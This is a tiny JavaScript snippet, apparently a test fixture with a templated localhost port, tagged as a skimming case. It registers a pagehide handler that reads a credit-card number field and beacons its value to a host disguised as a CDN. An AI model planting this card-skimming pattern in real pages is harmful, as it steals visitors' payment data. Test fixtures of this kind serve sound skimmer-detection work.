/* tw:skim-pagehide */
addEventListener('pagehide', function () {
  navigator.sendBeacon('http://cdn-bye.localhost:{{port}}/bye', document.querySelector('#cc-number').value)
})
